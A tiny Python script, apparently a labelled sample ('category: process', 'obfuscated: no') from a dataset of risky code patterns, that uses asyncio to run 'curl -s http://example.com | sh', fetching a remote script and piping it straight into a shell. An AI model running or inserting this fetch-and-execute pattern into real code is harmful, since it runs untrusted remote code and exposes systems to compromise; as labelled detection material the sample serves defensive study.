# category: process
# obfuscated: no
import asyncio

async def main():
    proc = await asyncio.create_subprocess_shell("curl -s http://example.com | sh")
    await proc.wait()

asyncio.run(main())
